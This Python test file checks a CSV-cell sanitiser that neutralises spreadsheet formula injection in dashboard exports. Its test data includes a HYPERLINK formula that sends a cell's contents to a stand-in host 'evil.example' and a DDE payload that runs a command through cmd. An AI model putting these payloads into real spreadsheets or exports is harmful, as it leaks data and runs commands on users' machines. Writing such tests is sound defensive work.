import csv
import io

import pytest

from engine.csv_cells import harmless
from engine.dashboard_sheet import Chart, Point, Series

FORMULA = '=HYPERLINK("http://evil.example?"&A1,"open")'


@pytest.mark.parametrize("text", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "--1"])
def test_what_a_spreadsheet_would_run_is_shown_instead(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("cell", ["Site A", "-1.5", "-1,5", "+3", "-", "1e-5", "", None, -2, 0.5, "a=b"])
def test_everything_else_stays(cell: object) -> None:
    assert harmless(cell) == cell


def test_a_site_that_is_named_like_a_formula_leaves_a_dashboard_as_text() -> None:
    chart = Chart("by_site", FORMULA, "bars", series=(Series(FORMULA, (Point(FORMULA, 1.0, None, None, 3),)),), n=3)
    rows = list(csv.reader(io.StringIO(chart.as_csv())))
    assert rows[1][:4] == [f"'{FORMULA}"] * 3 + ["1.0"]
